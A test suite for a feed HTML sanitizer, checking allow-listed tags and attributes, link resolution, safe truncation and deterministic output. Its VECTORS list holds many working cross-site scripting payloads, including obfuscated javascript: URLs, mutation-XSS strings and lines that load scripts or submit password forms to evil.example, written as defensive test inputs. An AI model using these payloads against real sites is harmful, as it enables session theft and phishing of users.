"""sanitize.py: whatever a feed contains, only allowed elements and attributes are published."""

from __future__ import annotations

import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from feeds.parser.sanitize import (
    MAX_HTML_BYTES,
    MAX_RAW_HTML_CHARS,
    MAX_TEXT_CHARS,
    extract_text,
    normalize_text,
    sanitize_html,
    text_to_html,
)

ROOT = Path(__file__).resolve().parent.parent.parent.parent
BASE = "https://example.org/posts/1"

# Written out here once more, and not imported: a change of the allow-list must be meant.
TAGS = frozenset(
    """a abbr audio b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption
    figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup
    table tbody td tfoot th thead time tr u ul var video wbr
    math merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle msub
    msubsup msup mtable mtd mtext mtr munder munderover none semantics""".split()
)
VOID = frozenset({"br", "col", "hr", "img", "wbr"})
URLS = frozenset({"href", "src", "poster"})
INERT = frozenset(
    """dir lang title datetime span alt width height value start reversed type colspan rowspan scope rel loading
    decoding referrerpolicy controls preload alttext display mathvariant fence form largeop movablelimits stretchy
    linethickness columnspan""".split()
)


class Auditor(HTMLParser):
    """Reads HTML as a list of elements, and fails for all that is not on the list."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(markup)
        self.close()
        assert not self.open, f"left open: {self.open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Checks an element."""
        assert tag in TAGS, tag
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), "an attribute twice"
        for name, value in attrs:
            assert name in URLS | INERT, name
            if name in URLS:
                assert value is not None
                # As a browser reads it: without white space and control characters around it, or line breaks in it.
                assert re.match("https?:", re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", value), re.IGNORECASE), value
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Checks that elements are nested."""
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        """Keeps the text."""
        self.text += data

    def handle_comment(self, data: str) -> None:
        """Fails: comments are how parsers are made to disagree."""
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        """Fails."""
        raise AssertionError(f"a declaration: {decl}")

    def unknown_decl(self, data: str) -> None:
        """Fails."""
        raise AssertionError(f"a CDATA section: {data}")

    def handle_pi(self, data: str) -> None:
        """Fails."""
        raise AssertionError(f"a processing instruction: {data}")


def cleaned(markup: str) -> Auditor:
    """The cleaned form of HTML, audited."""
    return Auditor(sanitize_html(markup, BASE)[0])


VECTORS = [
    # Scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # Handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=x onloadstart=alert(1) src=https://example.org/a.mp4>",
    "<audio src=x onerror=alert(1) autoplay>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<p onpointerenter='alert(1)' style='position:fixed;inset:0'>",
    "<a href=https://example.org/ onclick=alert(1)>x</a>",
    # javascript: and its kin, in every attribute that takes a URL
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='java&#1;script:alert(1)'>x</a>",
    "&#1;<&#1;img src=x onerror=alert(1)&#1;>&&#1;lt;script>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
    "<a href='javascript://example.org/%0aalert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://example.org/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x, https://example.org/a 2x'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=' javascript:alert(1)'>x</q>",
    "<del cite=javascript:alert(1)>x</del><ins cite=data:,x>x</ins>",
    "<video src=javascript:alert(1) poster=javascript:alert(1)></video>",
    "<audio src=data:audio/wav;base64,AAAA></audio>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    # Elements that embed, submit, or change what others mean
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=https://evil.example/>",
    "<object data=javascript:alert(1)><param name=x value=y></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form action=https://evil.example/><input name=password type=password>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<portal src=https://evil.example/>",
    "<map name=x><area href=javascript:alert(1)></map><img usemap=#x>",
    # Foreign content
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&lpar;1&rpar;</script>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # Markup that means one thing when it is read and another when it is read again
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<p title='`><img src=x onerror=alert(1)>'>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<img alt='<x' title='/><img src=x onerror=alert(1)>'>",
    "<p id=body class=admin name=cookie slot=x is=x-y part=z contenteditable tabindex=1 data-x=1>x</p>",
    "<x-widget onclick=alert(1)><slot name=x></slot></x-widget>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script\u2028>alert(1)</script>",
    "<a href=https://example.org/\u202egpj.exe target=_top ping=https://evil.example/ download>x</a>",
]


@pytest.mark.parametrize("markup", VECTORS)
def test_nothing_that_runs_gets_through(markup: str) -> None:
    cleaned(markup)


@pytest.mark.parametrize("markup", VECTORS)
def test_the_text_of_what_runs_is_one_printable_line(markup: str) -> None:
    text = extract_text(markup) or ""
    # As text it may look like anything; who puts it into a page escapes it.
    assert text == " ".join(text.split())
    assert not re.search(r"[\x00-\x1f\x7f\ud800-\udfff]", text)


@example("<svg><desc><![CDATA[</desc><a href=javascript:x>")
@example("<p><marquee><p>")
@example("<p><BUTTON><p><applet><p>")
@given(st.text() | st.lists(st.sampled_from(VECTORS) | st.text(max_size=5), max_size=4).map("".join))
def test_whatever_comes_in_only_what_is_allowed_comes_out_and_stays(markup: str) -> None:
    once, _ = sanitize_html(markup, BASE)
    Auditor(once)
    assert sanitize_html(once, BASE) == (once, False), "a second reading finds nothing more"


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("<p>One <b>two</b> <i>three</i></p>", "<p>One <b>two</b> <i>three</i></p>"),
        ("<b>unclosed <i>both", "<b>unclosed <i>both</i></b>"),
        ("stray </div> end </p>", "stray  end <p></p>"),
        ("<h1>x</h1><font color=red>y</font><center>z</center>", "<h1>x</h1>yz"),
        ("<ol start=3 reversed><li value=7>x</li></ol>", '<ol start="3" reversed=""><li value="7">x</li></ol>'),
        ('<p lang="ur" dir="rtl">سلام</p>', '<p lang="ur" dir="rtl">سلام</p>'),
        ("a &amp; b &lt; c &#128512; &nbsp;", "a &amp; b &lt; c 😀 &nbsp;"),
        ("  <p>x</p>\n ", "<p>x</p>"),
        ("x\x00\x07\x1b\x7fy", "xy"),
        ("x&#0;&#7;&#x1b;&#127;y", "x\ufffdy"),
        ("half \ud83d of a pair", "half  of a pair"),
        ("", ""),
    ],
)
def test_honest_markup_is_kept(markup: str, expected: str) -> None:
    assert sanitize_html(markup, BASE) == (expected, False)


@pytest.mark.parametrize(
    ("href", "expected"),
    [
        ("/about", "https://example.org/about"),
        ("2", "https://example.org/posts/2"),
        ("../a?b=1&amp;c#d", "https://example.org/a?b=1&c#d"),
        ("//cdn.example/x", "https://cdn.example/x"),
        ("#note", "https://example.org/posts/1#note"),
        ("", "https://example.org/posts/1"),
        ("http://other.example/?x=&quot;", 'http://other.example/?x="'),
    ],
)
def test_a_link_is_resolved_and_gives_nothing_away(href: str, expected: str) -> None:
    assert cleaned(f'<a href="{href}" rel="opener" target="x">x</a>').elements == [
        ("a", {"href": expected, "rel": "noopener noreferrer"})
    ]


@pytest.mark.parametrize("base", ["http://a:99999/", "https://a b/", "http://[::1%25eth0]/", "https://xn--/"])
def test_links_go_where_the_base_is_no_address_that_browsers_take(base: str) -> None:
    kept = Auditor(sanitize_html('<a href="/x">x</a><a href="https://example.org/">y</a>', base)[0])
    assert [attributes.get("href") for _, attributes in kept.elements] == [None, "https://example.org/"]


def test_an_address_of_more_than_4096_characters_is_left_out_and_what_is_linked_stays() -> None:
    longest, longer = (f"https://example.org/{'a' * (size - 20)}" for size in (4_096, 4_097))
    link = '<a href="{}" rel="noopener noreferrer">text</a>'
    assert sanitize_html(link.format(longest), BASE) == (link.format(longest), False)
    assert sanitize_html(link.format(longer), BASE) == ('<a rel="noopener noreferrer">text</a>', False)
    assert sanitize_html(f'<p title="b"><img src="{longer}" alt="A picture"></p>', BASE)[0] == "<p>A picture</p>"
    for markup in (f'<video src="{longer}">', f'<video poster="{longer}">', f'<audio src="/{longer}">'):
        assert "aaaa" not in sanitize_html(f"{markup}x", BASE)[0]


def test_a_short_link_does_not_become_a_long_one_by_its_base() -> None:
    assert "aaaa" not in sanitize_html('<a href="x">text</a>', f"https://example.org/{'a' * 4_090}/")[0]
    assert "aaaa" not in sanitize_html('<a href="x">text</a>', f"https://example.org/{'a' * 60_000}/")[0]


def test_a_long_text_with_the_look_of_an_attribute_stays() -> None:
    text = f'href="{"a" * 5_000}"'
    assert sanitize_html(f"<p>{text}</p>", BASE)[0] == f"<p>{text}</p>"
    assert sanitize_html(f'<img src="/a" alt="{"a" * 5_000}">', BASE)[0].count("a" * 5_000) == 1


def test_an_image_loads_late_and_tells_no_one_where_it_is_shown() -> None:
    image = '<img src="/a.png" alt="A" width=1 height=2 loading=eager referrerpolicy=unsafe-url srcset="/b.png 2x">'
    assert cleaned(image).elements == [
        (
            "img",
            {
                "src": "https://example.org/a.png",
                "alt": "A",
                "width": "1",
                "height": "2",
                "loading": "lazy",
                "decoding": "async",
                "referrerpolicy": "no-referrer",
            },
        )
    ]


@pytest.mark.parametrize("tag", ["audio", "video"])
def test_sound_and_film_wait_to_be_started(tag: str) -> None:
    player = f'<{tag} src="https://example.org/a" autoplay preload="auto"></{tag}>'
    assert cleaned(player).elements == [
        (tag, {"src": "https://example.org/a", "controls": "", "preload": "none"}),
    ]


# Cutting


PARAGRAPH = "<p>" + "word " * 100 + "</p>"


@pytest.mark.parametrize(
    ("markup", "end"),
    [
        (PARAGRAPH * 1_000, "word </p>"),
        ("<div>" * 3 + PARAGRAPH * 1_000 + "</div>" * 3, "word </p></div></div></div>"),
        ("<ul>" + "<li>point</li>" * 10_000 + "</ul>", "<li>point</li></ul>"),
        ("<table>" + "<tr><td>cell</td><td>cell</td></tr>" * 5_000 + "</table>", "</tr></tbody></table>"),
        ("<table><tr><td>" + "word " * 20_000 + "</table>", "word </td></tr></tbody></table>"),
        ("<ul><li><ul><li>" + "word " * 20_000 + "</ul></ul>", "word </li></ul></li></ul>"),
        ("<dl><dt>x<dd>" + "word " * 20_000 + "</dl>", "word </dd></dl>"),
        ("<pre>" + "word\n" * 20_000 + "</pre>", "word\n</pre>"),
        ("<div>" * 10_000 + "word " * 20_000, "</div>"),
        ("word " * 20_000, "word"),
        ("<b>" + "word " * 20_000 + "</b>", "word </b>"),
        ("<br>" * 20_000, "<br>"),
        ("漢" * 70_000, "漢漢"),
        ("<p>漢</p>" * 7_000, "<p>漢</p>"),
        ("&amp;" * 20_000, "&amp;"),
        ("word " * 13_100 + f"<a href='https://example.org/{'x' * 100}'>link</a>" * 10, "word"),
        ("word " * 13_100 + f"<a title='{'> ' * 1_000}'>link</a>", "word"),
        ("x" * (MAX_HTML_BYTES - 2) + "<b>bold</b>", "x"),
        ("a" + "<!-- -->" * 300_000 + "b", "a"),
    ],
    ids=lambda value: value[:12],
)
def test_long_content_is_cut_where_something_ends_and_marked(markup: str, end: str) -> None:
    kept, cut = sanitize_html(markup, BASE)
    assert cut
    Auditor(kept)
    assert kept.endswith(end), kept[-80:]
    size = len(kept.encode())
    assert size <= MAX_HTML_BYTES, "with the ends of what was cut in two"
    assert size > MAX_HTML_BYTES // 4 or len(markup) > MAX_RAW_HTML_CHARS
    assert sanitize_html(kept, BASE) == (kept, False), "what is kept is whole"


@pytest.mark.parametrize("character", ["x", "é", "漢", "👩"])
def test_content_of_the_greatest_length_is_not_cut(character: str) -> None:
    size = len(character.encode())
    fits = (MAX_HTML_BYTES - len("<p></p>")) // size
    assert sanitize_html(f"<p>{character * fits}</p>", BASE) == (f"<p>{character * fits}</p>", False)
    kept, cut = sanitize_html(f"<p>{character * (fits + 1)}</p>", BASE)
    assert cut
    assert set(kept) <= set(f"<p>{character}</p>"), "no character was cut in two"
    assert MAX_HTML_BYTES - 100 < len(kept.encode()) <= MAX_HTML_BYTES


@given(
    st.lists(
        st.sampled_from(["<ul><li>", "<table><tr><td>", "<div>", "<p>", "<b>", "</b>", "</p>", "漢"]), min_size=1
    )
)
@settings(max_examples=20)
def test_wherever_content_is_cut_what_is_kept_is_whole(pieces: list[str]) -> None:
    markup = "".join(pieces)
    kept, cut = sanitize_html(markup * 50 + "漢 word " * 10_000, BASE)
    Auditor(kept)
    assert cut
    assert len(kept.encode()) <= MAX_HTML_BYTES
    assert sanitize_html(kept, BASE) == (kept, False)


# Text


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        (None, None),
        ("", None),
        (" \n\t ", None),
        ("<p></p>", None),
        ("<script>alert(1)</script>", None),
        ("plain", "plain"),
        ("  a \n b\u00a0c  ", "a b c"),
        ("a &amp; b &lt; c &#8212; d &nbsp; e", "a & b < c — d e"),
        ("<b>Bold</b> and <i>italic</i>", "Bold and italic"),
        ("in<b>side</b> a word", "inside a word"),
        ("<p>One.</p><p>Two.</p>", "One. Two."),
        ("one<br>two<BR/>three<hr>four", "one two three four"),
        ("<ul><li>a</li><li>b</li></ul><table><tr><td>c</td><td>d</td></tr></table>", "a b c d"),
        ("<style>p {}</style>Text<svg><text>x</text></svg>more", "Text x more"),
        ("&lt;b&gt; is the tag", "<b> is the tag"),
        ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
        ("1 < 2 > 0", "1 < 2 > 0"),
        ("I <3 U", "I <3 U"),
        ("AT&T &unknown; &", "AT&T &unknown; &"),
        ("<b>x\ud800\x00</b>", "x"),
        ("\ud800", None),
        ("x" * (MAX_TEXT_CHARS + 1), "x" * (MAX_TEXT_CHARS - 1) + "…"),
        ("<b>" * 10_000 + "x", "x"),
    ],
    ids=lambda value: repr(value)[:30],
)
def test_the_text_of_html(markup: str | None, expected: str | None) -> None:
    assert extract_text(markup) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (None, None),
        ("", None),
        (" \r\n ", None),
        ("<b>not bold</b> &amp; not an ampersand", "<b>not bold</b> &amp; not an ampersand"),
        ("two\n\n lines\u3000here", "two lines here"),
        ("bell\x07 escape\x1b[31m half\udc00", "bell escape[31m half"),
        ("👩‍👩‍👧 नमस्ते", "👩‍👩‍👧 नमस्ते"),
        ("\u200b\u2060 \u202e\ufeff", None),
        ("\u3164\u2800", None),
        ("x" * MAX_TEXT_CHARS, "x" * MAX_TEXT_CHARS),
        ("x" * 10_000_000, "x" * (MAX_TEXT_CHARS - 1) + "…"),
    ],
    ids=lambda value: repr(value)[:30],
)
def test_text_stays_text(text: str | None, expected: str | None) -> None:
    assert normalize_text(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", ""),
        (" \n ", ""),
        ("one", "<p>one</p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("one\n\ntwo\n \n\nthree\n", "<p>one</p><p>two</p><p>three</p>"),
        ("one\r\ntwo", "<p>one<br>two</p>"),
        ('<script>alert(1)</script> & "x"', '<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp; "x"</p>'),
    ],
)
def test_text_becomes_paragraphs(text: str, expected: str) -> None:
    assert text_to_html(text) == expected


@given(st.text(st.characters(exclude_categories=["Cc", "Cs"]) | st.sampled_from("\n\r\t")))
def test_text_that_became_html_is_the_same_text(text: str) -> None:
    assert extract_text(text_to_html(text)) == normalize_text(text)


# The same bytes everywhere


ALL_ATTRIBUTES = " ".join(f'{name}="1"' for name in sorted(INERT - {"loading", "decoding", "referrerpolicy"}))
EVERYTHING = "".join(
    f'<{tag} href="/a" src="/b" poster="/c" {ALL_ATTRIBUTES}>{"" if tag in VOID else f"x</{tag}>"}'
    for tag in sorted(TAGS)
)
LONG = (
    '<p><video src="/a.mp4" poster="/a.jpg">x</video><img src="/a.png" alt="A" width="3" height="2">word</p>' * 1_000
)


@pytest.mark.parametrize("markup", [EVERYTHING, LONG], ids=["every tag", "cut"])
def test_html_has_the_same_bytes_in_every_process(markup: str) -> None:
    code = (
        "import sys; from feeds.parser.sanitize import sanitize_html; "
        f"sys.stdout.write(ascii(sanitize_html(sys.stdin.read(), {BASE!r})))"
    )
    results = {
        subprocess.run(
            [sys.executable, "-c", code],
            cwd=ROOT,
            env={"PYTHONHASHSEED": str(seed)},
            input=markup,
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for seed in range(6)
    }
    assert results == {ascii(sanitize_html(markup, BASE))}


def test_html_has_the_same_bytes_for_every_base() -> None:
    # Each base has a cleaner of its own, and with it another random order.
    markup = '<img src="https://example.org/a.png" alt="A"><audio src="https://example.org/a.mp3"></audio>'
    assert len({sanitize_html(markup, f"https://example.org/{n}")[0] for n in range(50)}) == 1


# Relative addresses, however they are written


@pytest.mark.parametrize(
    ("written", "address"),
    [
        ("href='2'", "https://example.org/posts/2"),
        ("HREF='2'", "https://example.org/posts/2"),
        ("href = 2", "https://example.org/posts/2"),
        ("href=' //other.example/2'", "https://other.example/2"),
        ("href='http\u017f://2'", "https://example.org/posts/http%C5%BF://2"),
        ("href='ht&#116;p-2'", "https://example.org/posts/http-2"),
        ("href", BASE),
        ("href=''", BASE),
        ("title='<a href=https://other.example>'href='2'", "https://example.org/posts/2"),
        ("href='HTTPS://other.example/2'", "HTTPS://other.example/2"),
    ],
)
def test_a_relative_address_is_resolved_however_it_is_written(written: str, address: str) -> None:
    assert f'href="{address}"' in sanitize_html(f"<a {written}>text</a>", BASE)[0]


def test_an_absolute_address_hides_no_relative_one_beside_it() -> None:
    html, _ = sanitize_html("<a href='https://other.example/'>one</a> <img src=2.png> <a href='2'>two</a>", BASE)
    assert 'href="https://other.example/"' in html
    assert 'src="https://example.org/posts/2.png"' in html
    assert 'href="https://example.org/posts/2"' in html
